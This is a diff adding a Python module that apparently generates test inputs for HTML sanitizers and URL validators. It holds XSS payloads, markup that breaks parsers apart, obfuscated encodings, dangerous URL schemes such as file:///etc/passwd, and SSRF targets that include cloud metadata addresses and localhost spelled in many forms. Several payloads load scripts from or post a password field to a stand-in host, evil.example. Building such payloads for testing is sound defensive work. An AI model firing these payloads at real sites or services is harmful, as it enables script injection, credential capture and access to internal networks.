@@ -1,0 +1,199 @@
+"""Attacks, made by combining how one gets out of a text, what runs then, and how it is spelled.
+
+In: nothing. Out: texts with markup, script addresses, and addresses that lead inside a network.
+"""
+
+from __future__ import annotations
+
+import html
+from collections.abc import Iterator
+from ipaddress import IPv4Address, IPv6Address
+
+# What makes a browser run, load, send or restyle something.
+_ACTS = (
+    "<script>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><path/></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
+    "<svg><animate attributeName=href values='javascript:alert(1)'/></svg>",
+    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
+    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='//evil.example/x.swf'>",
+    "<base href='//evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href='//evil.example/x.css'>",
+    "<link rel=import href='data:text/html,x'>",
+    "<style>@import'//evil.example/x.css';*{display:none}</style>",
+    "<p style='background:url(javascript:alert(1));position:fixed'>x</p>",
+    "<form action='//evil.example/'><input name=password autofocus onfocus=alert(1)></form>",
+    "<button formaction='javascript:alert(1)'>x</button>",
+    "<a href='javascript:alert(1)' target=_blank>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
+    "<a href='vbscript:msgbox(1)' ping='//evil.example/'>x</a>",
+    "<div hx-get='/desk/' hx-trigger=load data-hx-on:load='alert(1)'>x</div>",
+    "<div x-data='alert(1)' @click='alert(1)' v-html='x' ng-init='alert(1)'>x</div>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<video poster='javascript:alert(1)'><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<body onload=alert(1) background='javascript:alert(1)'>",
+    "<input type=image src=x onerror=alert(1)>",
+    "<table background='javascript:alert(1)'><td>x</td></table>",
+    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
+    "<x-element is=script onclick=alert(1)>x</x-element>",
+    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
+    "<isindex action='javascript:alert(1)' type=image>",
+    "<portal src='javascript:alert(1)'></portal>",
+    "<a href='https://a.example/' id=location name=attributes class=evil>x</a>",
+)
+
+# How a text leaves the place that it stands in; `%s` is what follows. The later ones make two parsers differ.
+_EXITS = (
+    "%s",
+    '">%s',
+    "'>%s",
+    "--><!-- -->%s",
+    "<!--><!-->%s-->",
+    "]]>%s",
+    "</title>%s",
+    "</textarea>%s",
+    "</script>%s",
+    "</style>%s",
+    "<![CDATA[%s]]>",
+    "<noscript><p title='</noscript>%s'></noscript>",
+    "<textarea><p title='</textarea>%s'></textarea>",
+    "<template>%s</template>",
+    "<select><template>%s</template></select>",
+    "<svg></p><style><a title='</style>%s'>",
+    "<svg><title>%s</title></svg>",
+    "<svg><foreignObject>%s</foreignObject></svg>",
+    "<svg><desc><![CDATA[</desc></svg>%s]]></desc></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;%s'>",
+    "<math><mtext><table><mglyph><style><math>%s</math></style></mglyph></table></mtext></math>",
+    "<math><annotation-xml encoding='text/html'>%s</annotation-xml></math>",
+    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>%s'>",
+    "<table><td>%s<table>",
+    "<p><table><caption><b>%s</p>",
+    "<xmp><p title='</xmp>%s'></xmp>",
+    "<plaintext>%s",
+    "<noembed><p title='</noembed>%s'>",
+    "<option><p title='</option>%s'>",
+    "<a title='%s'>",
+    "<b <i %s",
+    "<?xml version='1.0'?>%s",
+    "<!DOCTYPE x [<!ENTITY e '%s'>]>&e;",
+    "\n\n    %s\n\n```\n%s\n```\n",
+    "[x](<javascript:alert(1)>) ![x](data:image/svg+xml,x) <javascript:alert(1)> [y]: javascript:alert(1)\n%s",
+)
+
+
+def _spelled(text: str) -> Iterator[str]:
+    """The same to a browser, or to a lenient one, in other signs."""
+    yield text
+    yield text.upper()
+    yield html.escape(text)
+    yield html.escape(html.escape(text))
+    yield "".join(f"&#{ord(char)}" if char in "<>:" else char for char in text)
+    yield text.replace(" ", "/").replace("=", "\x0c=\t")
+    yield text.replace("script", "scr\x00ipt").replace("on", "\x00on")
+    yield text.replace("javascript:", "&#1;java&Tab;script&colon;")
+    yield text.replace("<", "\uff1c").replace(">", "\uff1e") + text.rstrip(">")
+
+
+def markup() -> Iterator[str]:
+    """Every act behind every exit, and the first exits in every spelling."""
+    for act in _ACTS:
+        for exit_ in _EXITS:
+            yield exit_.replace("%s", act)
+        for exit_ in _EXITS[:3]:
+            yield from _spelled(exit_.replace("%s", act))
+
+
+def some_markup(number: int) -> list[str]:
+    """`number` of them, spread over all."""
+    every = list(markup())
+    return every[:: max(1, len(every) // number)][:number]
+
+
+def script_addresses() -> Iterator[str]:
+    """Addresses that run or hold what they show, in the spellings that browsers forgive."""
+    for address in ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"):
+        scheme, _, rest = address.partition(":")
+        yield address
+        yield f"{scheme.upper()}:{rest}"
+        yield f" \t{scheme[:4]}\n{scheme[4:]}\t:{rest}"
+        yield f"\x01\x1f{address}"
+        yield f"{scheme}&colon;{rest}"
+        yield f"{scheme}://a.example/%0a{rest}"
+        yield f"view-source:{address}"
+    yield from ("file:///etc/passwd", "blob:https://a.example/1", "filesystem:https://a.example/x")
+    yield from (
+        "mhtml:https://a.example/",
+        "about:blank",
+        "intent://x#Intent;end",
+        "feed:javascript:alert(1)",
+    )
+    yield from ("https://user:secret@evil.example/", 'https://a.example/"onmouseover="alert(1)')
+
+
+_INSIDE = (
+    "0.0.0.0", "0.1.2.3", "10.0.0.1", "100.64.0.1", "100.100.100.200", "127.0.0.1", "127.255.255.254",
+    "169.254.169.254", "169.254.170.2", "172.16.0.1", "192.0.0.192", "192.168.0.1", "198.18.0.1", "224.0.0.1",
+    "240.0.0.1", "255.255.255.255",
+)  # fmt: skip
+_INSIDE_6 = (
+    "::", "::1", "fe80::1", "fec0::1", "fc00::1", "fd00:ec2::254", "fd20:ce::254", "ff02::1", "100::1",
+    "2001::1", "2001:db8::1", "5f00::1", "64:ff9b:1::a00:1",
+)  # fmt: skip
+_NAMES = ("localhost", "LOCALHOST", "localhost.", "a.localhost", "a.b.localhost.", "lOcAlHoSt")
+
+
+def inward_hosts() -> Iterator[str]:
+    """Hosts that are no public ones, in every form that some parser takes for an address."""
+    for text in _INSIDE:
+        yield from _four(IPv4Address(text))
+        for address in _embedded(IPv4Address(text)):
+            yield f"[{address}]"
+            yield f"[{address.exploded.upper()}]"
+    for text in _INSIDE_6:
+        address = IPv6Address(text)
+        yield f"[{address}]"
+        yield f"[{address.exploded}]"
+        yield f"[{address}%25eth0]"
+    yield from _NAMES
+    yield "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ"
+    yield "local\u00adhost"
+
+
+def _four(address: IPv4Address) -> Iterator[str]:
+    """An IPv4 address as inet_aton, browsers and IDNA read it."""
+    number, text = int(address), str(address)
+    a, b, c, d = address.packed
+    yield from (text, f"{text}.", str(number), hex(number), hex(number).upper(), f"0{number:o}")
+    yield from (f"{a}.{number & 0xFFFFFF}", f"{a}.{b}.{number & 0xFFFF}", f"0x{a:x}.{b}.{c}.{d}")
+    yield ".".join(f"0{part:o}" for part in (a, b, c, d))
+    yield ".".join(f"0x{part:02x}" for part in (a, b, c, d))
+    yield ".".join(f"{part:010o}" for part in (a, b, c, d))
+    yield text.replace(".", "\u3002")
+    yield text.replace(".", "\uff0e")
+    yield "".join(chr(0xFF10 + int(char)) if char.isdigit() else char for char in text)
+    yield "".join("⓪①②③④⑤⑥⑦⑧⑨"[int(char)] if char.isdigit() else char for char in text)
+    yield "".join(f"%{ord(char):02x}" for char in text)
+
+
+def _embedded(address: IPv4Address) -> Iterator[IPv6Address]:
+    """The IPv6 addresses that lead to an IPv4 one: mapped, compatible, NAT64, 6to4, Teredo, ISATAP."""
+    number = int(address)
+    yield IPv6Address(0xFFFF << 32 | number)
+    yield IPv6Address(0xFFFF << 48 | number)  # translated, RFC 2765
+    yield IPv6Address(number or 2)
+    yield IPv6Address((0x64FF9B << 96) | number)
+    yield IPv6Address((0x2002 << 112) | number << 80)
+    yield IPv6Address((0x20010000 << 96) | (number ^ 0xFFFFFFFF))
+    yield IPv6Address((0x20010000 << 96) | number << 64)  # as a Teredo server
+    yield IPv6Address((0x2A00145040070000 << 64) | (0x5EFE << 32) | number)
+    yield IPv6Address((0x2A00145040070000 << 64) | (0x02005EFE << 32) | number)
